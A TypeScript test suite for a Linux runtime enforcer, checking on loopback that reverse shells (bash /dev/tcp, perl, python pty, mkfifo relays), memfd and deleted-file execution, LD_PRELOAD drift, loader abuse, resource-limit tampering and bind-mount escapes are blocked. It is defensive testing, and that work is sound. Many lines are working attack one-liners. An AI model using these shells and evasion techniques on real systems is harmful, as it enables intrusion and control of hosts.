// Attacks no other test lists (docs/security-review.md): reverse shells in their common shapes, fileless and
// loader execs, drift through copies, chmod, scripts and the loader's environment, and the
// application lowering the enforcer's own resource limits to blind it. Each blocked attack sits
// next to a legitimate neighbour that still works. Only 127.0.0.1 and ::1 are used.

import { spawn, spawnSync } from "node:child_process";
import { chmodSync, copyFileSync, existsSync, mkdirSync, readFileSync, realpathSync, writeFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { expectExit, validateEventsAfterEach } from "./helpers/assert.js";
import { blockedExecs, describeExecs, lifecycle } from "./helpers/events.js";
import { tcpListener } from "./helpers/listeners.js";
import type { TcpListener } from "./helpers/listeners.js";
import { ARCH, ASAN_ENFORCER, ENFORCER, LOADER, ensureAsanBuilt, ensureBuilt, probe } from "./helpers/paths.js";
import { runEnforcer, startEnforcer } from "./helpers/run.js";
import type { Mechanism, RunResult } from "./helpers/run.js";
import { makeTempDir, pastCoarseTick } from "./helpers/tmp.js";
import type { TempDir } from "./helpers/tmp.js";

validateEventsAfterEach();

const PYTHON = "/usr/bin/python3";
const LIBM = `/lib/${ARCH === "arm64" ? "aarch64" : "x86_64"}-linux-gnu/libm.so.6`;
const POLICY = ["vigil-policy 1", "exec.drift block", "exec.fileless block", "exec.loader block", "exec.reverseShell block", "end", ""].join("\n");

/** A loopback "attacker": sends one line of commands to whoever connects, records what comes back.
 * An external program (not a shell builtin) proves that the shell runs commands. */
const attacker = (host: string): Promise<TcpListener> => tcpListener(host, "/bin/echo SHELL-$((6*7)); exit\n");

let tmp: TempDir;
beforeAll(async () => {
  ensureBuilt();
  tmp = makeTempDir("unlisted");
  // made before the enforcer starts: part of the "image", not drift
  copyFileSync("/bin/true", tmp.join("old-true"));
  copyFileSync("/bin/echo", tmp.join("old-echo")); // outside every allow glob
  mkdirSync(tmp.join("relay"));
  copyFileSync("/bin/bash", tmp.join("relay/socat")); // stands for socat exec:sh / gawk |& getline: a relay holding the connection
  writeFileSync(tmp.join("reader.sh"), "read x; /bin/echo script-got-$x\n"); // a script that reads data on stdin
  // stands for nc / openssl s_client: copies between its stdio and the connection, runs nothing
  writeFileSync(
    tmp.join("relay.py"),
    [
      "import os, socket, sys, threading",
      "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))",
      "s.settimeout(5)  # the attacker never hangs up: give up after 5 s without a byte",
      "def up():",
      "    while (d := os.read(0, 4096)):",
      "        s.sendall(d)",
      "threading.Thread(target=up, daemon=True).start()",
      "try:",
      "    while (d := s.recv(4096)):",
      "        os.write(1, d)",
      "except OSError:",
      "    pass",
      "",
    ].join("\n"),
  );
  // a program that connects, then sends what it reads on stdin (an upload: `... | aws s3 cp - s3://x`)
  writeFileSync(
    tmp.join("send.py"),
    [
      "import socket, sys",
      "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))",
      "data = sys.stdin.buffer.read()",
      "s.sendall(data)",
      "print('sent', data.decode().strip(), flush=True)",
      "",
    ].join("\n"),
  );
  chmodSync(tmp.join("old-true"), 0o755);
  writeFileSync(tmp.join("old-script"), "#!/bin/sh\necho old-script-ran\n", { mode: 0o755 });
  writeFileSync(tmp.join("not-yet-executable"), "#!/bin/sh\necho chmod-ran\n", { mode: 0o644 });
  copyFileSync(LIBM, tmp.join("old.so"));
  mkdirSync(tmp.join("oldlib"));
  copyFileSync(LIBM, tmp.join("oldlib/libm.so.6"));
  await pastCoarseTick(); // an enforcer started in the same clock tick would take these for drift
});
afterAll(() => tmp?.remove());

const bash = (mechanism: Mechanism, script: string, timeoutMs = 20_000, policy = POLICY): Promise<RunResult> =>
  runEnforcer({ mechanism, policy, command: ["bash", "-c", script], cwd: tmp.path, timeoutMs });
/** The program sh is (dash on Debian, bash elsewhere): what /proc/PID/exe names. */
const SH = realpathSync("/bin/sh").split("/").pop();

function expectBlockedBy(r: RunResult, rule: string, count = 1): void {
  const blocked = blockedExecs(r.events);
  expect(blocked.length, describeExecs(r.events)).toBeGreaterThanOrEqual(count);
  expect(blocked.every((e) => e.rule === rule), describeExecs(r.events)).toBe(true);
}

describe.each(["seccomp", "landlock"] as const)("reverse shells, mechanism %s", (mechanism) => {
  const shapes: [string, (port: number) => string][] = [
    ["bash -i >& /dev/tcp", (p) => `bash -c 'bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1'`],
    ["exec 3<>/dev/tcp; sh <&3 >&3 2>&3", (p) => `exec 3<>/dev/tcp/127.0.0.1/${p}; sh <&3 >&3 2>&3`],
    [
      "perl: socket dup'ed onto STDIN/STDOUT, then exec /bin/sh",
      (p) =>
        `perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(${p}, inet_aton("127.0.0.1"))) or die; ` +
        `open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i")'`,
    ],
    // new: the shell redirects itself (no exec after the dup): every external command it runs is refused
    ["exec 3<>/dev/tcp; exec 0<&3 1>&3 2>&3; read-eval loop", (p) => `exec 3<>/dev/tcp/127.0.0.1/${p}; exec 0<&3 1>&3 2>&3; while read l; do eval "$l"; done`],
    ["exec 3<>/dev/tcp; eval loop on fd 3", (p) => `exec 3<>/dev/tcp/127.0.0.1/${p}; while read l <&3; do eval "$l" >&3 2>&3; done`],
    // new: the shell's stdio is a terminal; its parent (python) holds the socket on its stdio
    [
      "python pty.spawn after dup2",
      (p) =>
        `${PYTHON} -c 'import socket,os,pty; s=socket.create_connection(("127.0.0.1",${p})); ` +
        `[os.dup2(s.fileno(),f) for f in (0,1,2)]; pty.spawn("/bin/sh")'`,
    ],
    // new: /proc/net/tcp grown past the enforcer's old 256 KiB read by 2500 listening sockets
    [
      "bash -i >& /dev/tcp behind 2500 listening sockets",
      (p) =>
        `ulimit -n 4096; ${PYTHON} -c 'import socket,os
ss=[socket.socket() for i in range(2500)]
for s in ss: s.bind(("127.0.0.1",0)); s.listen(1)
os.system("bash -c \\"bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1\\"")'`,
    ],
  ];

  test.each(shapes)("%s: refused, the attacker gets no command run", async (_name, command) => {
    const a = await attacker("127.0.0.1");
    try {
      const r = await bash(mechanism, command(a.port));
      expectBlockedBy(r, "exec.reverseShell");
      expect(a.bytes()).not.toContain("SHELL-42");
    } finally {
      await a.close();
    }
  });

  test.each([
    ["mkfifo f; sh < f 2>&1 | RELAY > f", "sh < f"],
    ["mkfifo f; cat f | sh -i 2>&1 | RELAY > f (the cheat-sheet form)", "cat f | sh -i"],
    ["mkfifo f; cat f | busybox sh -i 2>&1 | RELAY > f", "cat f | busybox sh -i"],
  ])("%s (the relay holds the connection and runs nothing): refused", async (_name, shell) => {
    const a = await attacker("127.0.0.1");
    try {
      const r = await bash(mechanism, `rm -f f; mkfifo f; ${shell} 2>&1 | ${PYTHON} ${tmp.join("relay.py")} ${a.port} > f; rm -f f; exit 0`);
      expectBlockedBy(r, "exec.reverseShell");
      expect(a.bytes()).not.toContain("SHELL-42");
    } finally {
      await a.close();
    }
  });

  test("neighbours of the FIFO rule: a program reading a FIFO, a shell script fed data by a FIFO, commands piped into sh", async () => {
    // (an interactive shell on a terminal is the other neighbour: docker exec -it / ECS Exec give it a pty)
    const r = await bash(
      mechanism,
      `rm -f q; mkfifo q; (echo fifo-data > q &); cat < q; ` +
        `(echo line > q &); sh reader.sh < q; ` +
        `(echo more > q &); sh -c 'read y; /bin/echo c-got-$y' < q; ` +
        `echo '/bin/echo piped-ok' | sh; rm -f q`,
    );
    expectExit(r, 0);
    expect(r.stdout.split("\n")).toEqual(["fifo-data", "script-got-line", "c-got-more", "piped-ok", ""]);
    expect(blockedExecs(r.events)).toEqual([]);
  });

  // A plain sh (no -i) reading commands from an anonymous pipe, its output piped into a relay that holds
  // the connection (docs/security-review.md #9). Whichever starts first is judged when the other arrives:
  // the shell's exec when the relay holds a connection, the relay's connect when the shell runs (connect
  // is stopped only where the policy has network.connect rules).
  const NET_POLICY = POLICY.replace("end\n", "network.connect.deny 192.0.2.1/32\nend\n");
  const RELAY = `${PYTHON} relay.py`;
  /** Pipelines beside the attack that must keep working, run at once; each writer is still alive when its reader connects. */
  const neighbours = (port: number): string =>
    [
      `printf '/bin/echo piped-ok\\n' | sh`, // commands piped into a plain sh, output to the log
      `sh -c 'sleep 1; /bin/echo from-c' | ${PYTHON} send.py ${port}`, // sh -c 'mysqldump' | aws s3 cp -
      `/bin/echo line | sh reader.sh | ${PYTHON} send.py ${port}`, // a script's output uploaded
      `(sleep 1; /bin/echo via-cat) | cat | ${PYTHON} send.py ${port}`, // a connecting program fed by cat
      `printf '%s\\n' '{ sleep 1; /bin/echo in-script; } | ${PYTHON} send.py ${port}' | sh`, // commands piped into sh upload data
    ]
      .map((c) => `(${c}) &`)
      .join(" ") + " wait; ";
  const NEIGHBOUR_OUTPUT = ["piped-ok", "sent from-c", "sent in-script", "sent script-got-line", "sent via-cat"];

  async function relayedShell(policy: string, attack: (port: number) => string): Promise<{ r: RunResult; a: TcpListener }> {
    const a = await attacker("127.0.0.1");
    const sink = await tcpListener("127.0.0.1");
    try {
      const r = await bash(mechanism, `${neighbours(sink.port)}rm -f f g; mkfifo f g; ${attack(a.port)}; rm -f f g; exit 0`, 30_000, policy);
      expectExit(r, 0);
      expect(r.stdout.split("\n").filter((l) => l !== "").sort(), r.stderr).toEqual(NEIGHBOUR_OUTPUT);
      for (const sent of ["from-c", "script-got-line", "via-cat", "in-script"]) expect(sink.bytes()).toContain(sent);
      expect(a.bytes()).not.toContain("SHELL-42");
      return { r, a };
    } finally {
      await a.close();
      await sink.close();
    }
  }

  test.each([
    ["no network.connect rules", POLICY],
    ["network.connect rules", NET_POLICY],
  ])("cat f | sh 2>&1 | RELAY > f, the relay connected before the shell started (%s): the shell is refused; its neighbours run", async (_name, policy) => {
    const { r, a } = await relayedShell(policy, (p) => `cat f | (sleep 1; exec sh) 2>&1 | ${RELAY} ${p} > f`);
    expectBlockedBy(r, "exec.reverseShell");
    expect(blockedExecs(r.events).map((e) => e.exe.split("/").pop())).toEqual([SH]);
    expect(a.connections()).toBe(1);
  });

  test.each([
    ["cat f | sh 2>&1 | RELAY > f", (p: number) => `cat f | sh 2>&1 | (sleep 1; exec ${RELAY} ${p}) > f`],
    ["cat f | busybox sh 2>&1 | cat | RELAY > f (through another process)", (p: number) => `cat f | busybox sh 2>&1 | cat | (sleep 1; exec ${RELAY} ${p}) > f`],
    ["cat f | sh > g 2>&1 & RELAY < g > f (the output through a named FIFO)", (p: number) => `cat f | sh > g 2>&1 & (sleep 1; exec ${RELAY} ${p}) < g > f; wait`],
    ["cat f | sh > g 2>&1 & cat g | RELAY > f (a FIFO opened by name on the way)", (p: number) => `cat f | sh > g 2>&1 & cat g | (sleep 1; exec ${RELAY} ${p}) > f; wait`],
  ])("%s, the shell started first (network.connect rules): the relay's connect is refused; its neighbours run", async (_name, attack) => {
    const { r, a } = await relayedShell(NET_POLICY, attack);
    const refused = r.events.filter((e) => e.kind === "connect");
    expect(refused, r.eventsText).toMatchObject([{ verdict: "blocked", rule: "exec.reverseShell", address: "127.0.0.1", port: a.port }]);
    expect(blockedExecs(r.events), describeExecs(r.events)).toEqual([]);
    expect(a.connections()).toBe(0);
  });

  test("cat f | sh 2>&1 | RELAY > f as typed (network.connect rules): refused at the exec or the connect", async () => {
    const { r } = await relayedShell(NET_POLICY, (p) => `cat f | sh 2>&1 | ${RELAY} ${p} > f`);
    const refused = r.events.flatMap((e) => ((e.kind === "exec" || e.kind === "connect") && e.verdict !== "allowed" ? [`${e.verdict} ${String(e.rule)}`] : []));
    expect(refused.length, r.eventsText).toBeGreaterThanOrEqual(1);
    expect(refused.every((e) => e === "blocked exec.reverseShell"), r.eventsText).toBe(true);
  });

  test("exec.reverseShell alert: the relay's connect is reported (verdict alert) and goes on", async () => {
    const a = await attacker("127.0.0.1");
    try {
      const r = await bash(mechanism, `rm -f f; mkfifo f; cat f | sh 2>&1 | (sleep 1; exec ${RELAY} ${a.port}) > f; rm -f f; exit 0`, 30_000, NET_POLICY.replace("exec.reverseShell block", "exec.reverseShell alert"));
      expectExit(r, 0);
      expect(r.events.filter((e) => e.kind === "connect"), r.eventsText).toMatchObject([{ verdict: "alert", rule: "exec.reverseShell", port: a.port }]);
      expect(a.bytes()).toContain("SHELL-42");
    } finally {
      await a.close();
    }
  });

  test("a relay (socat, awk) holding the connection and starting the commands: refused", async () => {
    const a = await attacker("127.0.0.1");
    try {
      const r = await bash(mechanism, `${tmp.join("relay/socat")} -c 'exec 5<>/dev/tcp/127.0.0.1/${a.port}; read -r l <&5; eval "$l" >&5 2>&5'`);
      expectBlockedBy(r, "exec.reverseShell");
      expect(a.bytes()).not.toContain("SHELL-42");
    } finally {
      await a.close();
    }
  });

  test("UDP and IPv6 forms are refused too", async () => {
    const a6 = await attacker("::1");
    try {
      const r = await bash(mechanism, `bash -c 'sh -i >& /dev/udp/127.0.0.1/9 0>&1'; bash -c 'bash -i >& /dev/tcp/::1/${a6.port} 0>&1'; exit 0`);
      expectBlockedBy(r, "exec.reverseShell", 2);
      expect(a6.bytes()).not.toContain("SHELL-42");
    } finally {
      await a6.close();
    }
  });

  test("neighbours: pipelines, a shell on a UNIX socketpair, a program holding a TCP connection that runs sh", async () => {
    const a = await attacker("127.0.0.1");
    try {
      const r = await bash(
        mechanism,
        `echo pipe | cat | tr a-z A-Z; ${PYTHON} -c 'import socket,subprocess
a,b=socket.socketpair(); subprocess.run(["sh","-c","echo unix-ok"],stdout=a); print(b.recv(99).decode().strip(), flush=True)
c=socket.create_connection(("127.0.0.1",${a.port})); subprocess.run(["sh","-c","/bin/echo conn-ok"])'`,
      );
      expectExit(r, 0);
      expect(r.stdout.split("\n")).toEqual(["PIPE", "unix-ok", "conn-ok", ""]);
      expect(blockedExecs(r.events)).toEqual([]);
    } finally {
      await a.close();
    }
  });
});

describe("the enforcer's resource limits are not the application's to change", () => {
  test("prlimit on the enforcer (RLIMIT_NOFILE 0, RLIMIT_CPU 1 s) is refused; the reverse shell after it still is", async () => {
    const a = await attacker("127.0.0.1");
    try {
      // bash is the enforcer's child: $PPID is the enforcer
      const r = await bash(
        "seccomp",
        `prlimit --pid $PPID --nofile=0:0 2>/dev/null; echo "nofile=$?"; prlimit --pid $PPID --cpu=1:1 2>/dev/null; echo "cpu=$?"; ` +
          `prlimit --pid $$ --nofile=512:512; echo "self=$?"; bash -c 'bash -i >& /dev/tcp/127.0.0.1/${a.port} 0>&1'; exit 0`,
      );
      expect(r.stdout).toMatch(/^nofile=1$/m);
      expect(r.stdout).toMatch(/^cpu=1$/m);
      expect(r.stdout).toMatch(/^self=0$/m); // the neighbour: a process still sets its own limits
      expectBlockedBy(r, "exec.reverseShell");
      expect(a.bytes()).not.toContain("SHELL-42");
    } finally {
      await a.close();
    }
  });
});

describe.each(["seccomp", "landlock"] as const)("fileless, loader and drift, mechanism %s", (mechanism) => {
  test("memfd, O_TMPFILE and deleted files run by descriptor are refused; an image file by descriptor runs", async () => {
    const py = (body: string): string => `${PYTHON} -c 'import os; data=open("/bin/true","rb").read()\n${body}'`;
    const r = await bash(
      mechanism,
      [
        py('fd=os.memfd_create("x"); os.write(fd,data); os.execv(f"/proc/self/fd/{fd}",["memfd"])'),
        `echo "memfd=$?"`,
        py(`fd=os.open(".",os.O_TMPFILE|os.O_RDWR,0o755); os.write(fd,data); ro=os.open(f"/proc/self/fd/{fd}",os.O_RDONLY); os.close(fd); os.execve(ro,["tmpfile"],{})`),
        `echo "tmpfile=$?"`,
        py(`w=os.open("gone",os.O_CREAT|os.O_WRONLY,0o755); os.write(w,data); os.close(w); ro=os.open("gone",os.O_RDONLY); os.unlink("gone"); os.execve(ro,["deleted"],{})`),
        `echo "deleted=$?"`,
        `${PYTHON} -c 'import os; os.execve(os.open("old-true",os.O_RDONLY),["by-fd"],{})'`,
        `echo "image-by-fd=$?"`,
      ].join("\n"),
    );
    expect(r.stdout.trim().split("\n")).toEqual(["memfd=126", "tmpfile=126", "deleted=126", "image-by-fd=0"]);
    expectBlockedBy(r, "exec.fileless", 3);
  });

  // new: a memfd named "a/b" is shown as /memfd:a/b (deleted), which `/memfd:*` did not match
  test("exec.deny /memfd:* alone refuses a memfd whatever its name, slashes included; /bin/true runs", async () => {
    const r = await runEnforcer({
      mechanism,
      policy: ["vigil-policy 1", "exec.deny /memfd:*", "end", ""].join("\n"),
      command: ["bash", "-c", ["plain", "a/b", "/usr/bin/true"].map((name) =>
        `${PYTHON} -c 'import os; fd=os.memfd_create("${name}"); os.write(fd,open("/bin/true","rb").read()); os.execv(f"/proc/self/fd/{fd}",["x"])'; echo "${name}=$?"`).join("; ") + "; /bin/true; echo true=$?"],
      cwd: tmp.path,
    });
    expect(r.stdout.trim().split("\n")).toEqual(["plain=126", "a/b=126", "/usr/bin/true=126", "true=0"]);
    expectBlockedBy(r, "exec.deny[0]", 3);
  });

  test("the dynamic loader as a program is refused, with or without options; programs using it as their interpreter run", async () => {
    const r = await bash(
      mechanism,
      `${LOADER} /bin/true; echo "plain=$?"; ${LOADER} --argv0 x --library-path /nowhere /bin/true; echo "options=$?"; ` +
        `${LOADER} --list /bin/true >/dev/null; echo "list=$?"; /bin/true; echo "normal=$?"`,
    );
    expect(r.stdout.trim().split("\n")).toEqual(["plain=126", "options=126", "list=126", "normal=0"]);
    expectBlockedBy(r, "exec.loader", 3);
  });

  test("drift: a copy of an allowed program, chmod +x of an old file, a new #! script; the image's own run", async () => {
    const r = await bash(
      mechanism,
      `cp /bin/true copy; ./copy; echo "copy=$?"; chmod +x not-yet-executable; ./not-yet-executable; echo "chmod=$?"; ` +
        `printf '#!/bin/sh\\necho new-script-ran\\n' > new-script; chmod +x new-script; ./new-script; echo "script=$?"; ` +
        `./old-true; echo "old=$?"; ./old-script`,
    );
    expect(r.stdout.trim().split("\n")).toEqual(["copy=126", "chmod=126", "script=126", "old=0", "old-script-ran"]);
    expectBlockedBy(r, "exec.drift", 3);
  });

  // new: a #! script run through a descriptor was not judged at all (AT_EXECFN /dev/fd/N)
  test("drift: a new #! script run as /dev/fd/9, /proc/self/fd/9, a symlink to it, or deleted, is refused; an old one runs so", async () => {
    const r = await bash(
      mechanism,
      `printf '#!/bin/sh\\necho NEW\\n' > fd.sh; chmod +x fd.sh; exec 9< fd.sh; /dev/fd/9; echo "devfd=$?"; /proc/self/fd/9; echo "procself=$?"; ` +
        `ln -s /proc/self/fd/9 link; ./link; echo "link=$?"; exec 8< fd.sh; rm fd.sh; /dev/fd/8; echo "deleted=$?"; exec 7< old-script; /dev/fd/7`,
    );
    expect(r.stdout.trim().split("\n")).toEqual(["devfd=126", "procself=126", "link=126", "deleted=126", "old-script-ran"]);
    expectBlockedBy(r, "exec.drift", 4);
  });

  // new: a dropped script handed to an interpreter as its argument, not run through #!
  test("drift: a new script given to sh, bash --rcfile, python3 -W, perl -I, busybox sh is refused; old scripts and -c commands run", async () => {
    const r = await bash(
      mechanism,
      `printf 'echo NEW\\n' > new.sh; printf 'print("NEW")\\n' > new.py; ` +
        `sh new.sh; echo "sh=$?"; bash --rcfile new.sh -i </dev/null 2>/dev/null; echo "rcfile=$?"; ${PYTHON} -W ignore new.py; echo "python=$?"; ` +
        `perl -I /nowhere new.sh; echo "perl=$?"; busybox sh -- new.sh; echo "busybox=$?"; ` +
        // options that push the script name past what the enforcer reads of the command line
        `for k in 3637 3638 3639 3640; do sh $(printf -- '-o posix %.0s' $(seq $k)) new.sh; echo "cut=$?"; done; ` +
        `sh old-script; sh -c 'echo command-ok' new.sh; ${PYTHON} -c 'print("py-command-ok")' new.py`,
    );
    expect(r.stdout.trim().split("\n")).toEqual(["sh=126", "rcfile=126", "python=126", "perl=126", "busybox=126", "cut=126", "cut=126", "cut=126", "cut=126", "old-script-ran", "command-ok", "py-command-ok"]);
    expectBlockedBy(r, "exec.drift", 9);
  });

  // new: the loader's environment names code that appeared after the start
  test("drift: LD_PRELOAD, LD_AUDIT and LD_LIBRARY_PATH naming new code are refused, even behind 100 KiB of other variables; old ones run", async () => {
    const pad = Array.from({ length: 100 }, (_, i) => `PAD${i}=${"x".repeat(1000)}`).join(" ");
    const r = await bash(
      mechanism,
      `cp ${LIBM} new.so; mkdir newlib; cp ${LIBM} newlib/libm.so.6; ` +
        `LD_PRELOAD=$PWD/new.so /bin/true; echo "preload=$?"; LD_PRELOAD=./new.so /bin/true; echo "relative=$?"; ` +
        `LD_AUDIT=$PWD/new.so /bin/true 2>/dev/null; echo "audit=$?"; LD_LIBRARY_PATH=/usr/lib:$PWD/newlib /bin/true; echo "libpath=$?"; ` +
        `env ${pad} LD_PRELOAD=$PWD/new.so /bin/true; echo "padded=$?"; ` +
        `LD_PRELOAD=$PWD/old.so /bin/true; echo "old-preload=$?"; LD_LIBRARY_PATH=$PWD/oldlib /bin/true; echo "old-libpath=$?"; ` +
        // relative and empty (= working directory) elements, a dynamic string token
        `LD_LIBRARY_PATH=newlib /bin/true; echo "relative-dir=$?"; mkdir work; cd work; echo log > app.log; LD_LIBRARY_PATH=/usr/lib: /bin/true; echo "cwd-new-log=$?"; ` +
        `cp ../new.so libm.so.6; LD_LIBRARY_PATH=/usr/lib: /bin/true; echo "cwd-new-lib=$?"; cd ..; LD_LIBRARY_PATH='$ORIGIN/x' /bin/true; echo "origin=$?"`,
    );
    expect(r.stdout.trim().split("\n")).toEqual([
      "preload=126",
      "relative=126",
      "audit=126",
      "libpath=126",
      "padded=126",
      "old-preload=0",
      "old-libpath=0",
      "relative-dir=126",
      "cwd-new-log=0",
      "cwd-new-lib=126",
      "origin=126",
    ]);
    expectBlockedBy(r, "exec.drift", 8);
  });
});

// new: in a mount namespace of its own (where user namespaces are allowed, as on this machine) a
// bind mount gives any file any path: the path /proc/PID/exe gives is the bind mount's, and a
// read-only file is written through a path no glob names
const USERNS = spawnSync("unshare", ["-Urm", "true"]).status === 0;
describe.skipIf(!USERNS)("private mount namespaces", () => {
  test("enforce mode: unshare -Urm and mount are refused (EPERM); the application's own writes and execs go on", async () => {
    const r = await runEnforcer({
      mechanism: "seccomp",
      policy: ["vigil-policy 1", "exec.allow /usr/bin/*", "exec.allow /bin/*", "exec.allow /usr/sbin/*", "end", ""].join("\n"),
      command: ["bash", "-c", `unshare -Urm true 2>/dev/null; echo "unshare=$?"; unshare -U true 2>/dev/null; echo "userns=$?"; echo ok > own; cat own; /bin/true; echo "exec=$?"`],
      cwd: tmp.path,
    });
    expect(r.stdout.trim().split("\n")).toEqual(["unshare=1", "userns=1", "ok", "exec=0"]);
  });

  test("without Landlock (as on Fargate): no bind mount writes a read-only file; writes elsewhere work", async () => {
    mkdirSync(tmp.join("ro"), { recursive: true });
    writeFileSync(tmp.join("ro/f"), "original\n");
    mkdirSync(tmp.join("mnt"), { recursive: true });
    const r = await runEnforcer({
      enforcer: probe("no-landlock"),
      env: { NO_LANDLOCK_EXEC: ENFORCER },
      policy: ["vigil-policy 1", `files.readOnly ${tmp.join("ro")}/**`, "exec.deny /nonexistent", "end", ""].join("\n"),
      command: ["bash", "-c", `unshare -Urm sh -c 'mount --bind ${tmp.join("ro")} ${tmp.join("mnt")} && echo changed > ${tmp.join("mnt/f")}' 2>/dev/null; echo "bind=$?"; echo mine > own; cat own`],
      cwd: tmp.path,
    });
    const start = r.events.find((e) => e.kind === "lifecycle" && e.event === "start");
    expect(start?.kind === "lifecycle" && start.event === "start" ? start.mechanisms.files : undefined).toBe("ptrace");
    expect(r.stdout.trim().split("\n")).toEqual(["bind=1", "mine"]);
    expect(readFileSync(tmp.join("ro/f"), "utf8")).toBe("original\n");
  });

  test("audit mode (namespaces allowed): a program outside the allow list bind-mounted over an allowed path is reported (exec.path)", async () => {
    const r = await runEnforcer({
      mechanism: "seccomp",
      policy: ["vigil-policy 1", "mode audit", "exec.allow /usr/bin/*", "exec.allow /bin/*", "exec.allow /usr/sbin/*", "end", ""].join("\n"),
      command: ["unshare", "-Urm", "sh", "-c", `/usr/bin/true; echo "legit=$?"; mount --bind ${tmp.join("old-echo")} /usr/bin/true && /usr/bin/true bound`],
      cwd: tmp.path,
    });
    expect(r.stdout.trim().split("\n")).toEqual(["legit=0", "bound"]);
    const alerts = r.events.filter((e) => e.kind === "exec" && e.verdict === "alert");
    expect(alerts.map((e) => (e.kind === "exec" ? `${e.rule} ${e.exe}` : "")), describeExecs(r.events)).toEqual(["exec.path /usr/bin/true"]);
  });
});

// new: the enforcer's configuration was handed down to the application, policy included
test("the application does not see VIGIL_POLICY (perhaps an ECS secret) or the other VIGIL_* settings; its own variables stay", async () => {
  const r = await runEnforcer({
    mechanism: "seccomp",
    env: { VIGIL_POLICY: POLICY, VIGIL_MECHANISM: "seccomp", VIGIL_AUDIT: "0", APP_SETTING: "kept" },
    command: ["bash", "-c", `env | grep '^VIGIL_' | grep -v '^VIGIL_TEST_RUN=' | wc -l; echo "$APP_SETTING"; cp /bin/true copy2; ./copy2; echo "drift=$?"`],
    cwd: tmp.path,
  });
  expect(r.stdout.trim().split("\n")).toEqual(["0", "kept", "drift=126"]); // the policy still applies
});

// security-review 5b: a session entered from outside (docker exec, ECS Exec; here nsenter into the
// PID namespace of the enforcer as PID 1) is adopted within 5 ms and gets the application's
// seccomp filter: file and network rules apply to it as to the application, on every thread.
const inNamespace = (pid: number, argv: readonly string[], env: NodeJS.ProcessEnv = process.env): Promise<{ code: number | null; stdout: string; stderr: string }> =>
  new Promise((resolve) => {
    const child = spawn("nsenter", ["-t", String(pid), "-p", "-m", "--", ...argv], { stdio: ["ignore", "pipe", "pipe"], timeout: 20_000, env });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (d: Buffer) => (stdout += d.toString()));
    child.stderr.on("data", (d: Buffer) => (stderr += d.toString()));
    child.on("close", (code) => resolve({ code, stdout, stderr }));
  });

describe.each([
  ["release", ENFORCER],
  ["sanitizer", ASAN_ENFORCER],
] as const)("a session entered from outside gets the application's filter (%s build)", (_label, enforcer) => {
  beforeAll(() => {
    if (enforcer === ASAN_ENFORCER) ensureAsanBuilt();
  }, 300_000);

  /** The enforcer as PID 1 of a PID namespace (its command: sleep), one session entered into it, then the enforcer stopped. */
  async function oneSession(mechanism: Mechanism, policy: string, argv: readonly string[]) {
    const run = startEnforcer({ enforcer, pidNamespace: true, mechanism, policy, command: ["sleep", "60"], timeoutMs: 60_000 });
    const pid1 = await run.enforcerPid();
    await new Promise((r) => setTimeout(r, 300));
    const session = await inNamespace(pid1, argv);
    process.kill(pid1, "SIGTERM");
    return { session, r: await run.result };
  }

  test("its write to a read-only file and its denied connect are refused, on every thread; its neighbours work", async () => {
    const dir = tmp.join(`entered-${_label}`);
    mkdirSync(`${dir}/ro`, { recursive: true });
    mkdirSync(`${dir}/rw`, { recursive: true });
    writeFileSync(`${dir}/ro/passwd`, "root:x:0:0::/root:/bin/sh\n");
    const denied = await tcpListener("127.0.0.2");
    const allowed = await tcpListener("127.0.0.1");
    try {
      const policy = ["vigil-policy 1", `files.readOnly ${dir}/ro/**`, "network.connect.deny 127.0.0.2/32", "end", ""].join("\n");
      const run = startEnforcer({ enforcer, pidNamespace: true, mechanism: "seccomp", policy, command: ["sleep", "60"], timeoutMs: 60_000 });
      const pid1 = await run.enforcerPid();
      await new Promise((r) => setTimeout(r, 300));
      // the shell sleeps first: the enforcer looks every 5 ms and adopts it (and its sleep) meanwhile
      const session = await inNamespace(pid1, [
        "bash",
        "-c",
        `sleep 0.6; echo 'hacked:x:0:0::/:/bin/sh' >> ${dir}/ro/passwd; echo "ro=$?"; echo mine > ${dir}/rw/own; echo "rw=$?"; cat ${dir}/rw/own; ` +
          `/usr/bin/true; echo "exec=$?"; (exec 3<>/dev/tcp/127.0.0.2/${denied.port}) 2>/dev/null; echo "denied=$?"; (exec 3<>/dev/tcp/127.0.0.1/${allowed.port}); echo "allowed=$?"; unshare -Urm true 2>/dev/null; echo "unshare=$?"`,
      ]);
      // a process with a second thread that writes only after the adoption: TSYNC gave that thread the filter too
      const threads = await inNamespace(pid1, [
        PYTHON,
        "-c",
        [
          "import threading, time",
          "go = threading.Event(); out = []",
          "def w():",
          "    go.wait()",
          "    try:",
          `        open("${dir}/ro/passwd", "a").write("thread\\n"); out.append("thread=0")`,
          "    except OSError as e:",
          "        out.append(f'thread={e.errno}')",
          `    open("${dir}/rw/thread", "w").write("t"); out.append("thread-rw=0")`,
          "t = threading.Thread(target=w); t.start()",
          "time.sleep(0.8); go.set(); t.join(); print(*out)",
        ].join("\n"),
      ]);
      process.kill(pid1, "SIGTERM"); // forwarded to the application (sleep)
      const r = await run.result;
      expect(session.stdout.trim().split("\n"), session.stderr).toEqual(["ro=1", "rw=0", "mine", "exec=0", "denied=1", "allowed=0", "unshare=1"]); // the namespace filter too
      expect(threads.stdout.trim(), threads.stderr).toBe("thread=1 thread-rw=0");
      expect(readFileSync(`${dir}/ro/passwd`, "utf8")).toBe("root:x:0:0::/root:/bin/sh\n");
      expect(denied.connections()).toBe(0);
      expect(allowed.connections()).toBeGreaterThanOrEqual(1);
      const attached = r.events.filter((e) => e.kind === "exec" && e.mechanism === "attach");
      expect(attached.length, describeExecs(r.events)).toBeGreaterThanOrEqual(2); // bash (or its sleep) and python3
      expect(attached.every((e) => e.kind === "exec" && e.filter === true && e.verdict === "allowed"), describeExecs(r.events)).toBe(true);
      const files = r.events.filter((e) => e.kind === "file" && e.verdict === "blocked" && e.rule === "files.readOnly[0]");
      expect(files.map((e) => (e.kind === "file" ? e.exe : ""))).toEqual(["/usr/bin/bash", expect.stringMatching(/python3/)]);
      expect(r.events.filter((e) => e.kind === "connect" && e.verdict === "blocked" && e.rule === "network.connect.deny[0]").length).toBe(1);
    } finally {
      await denied.close();
      await allowed.close();
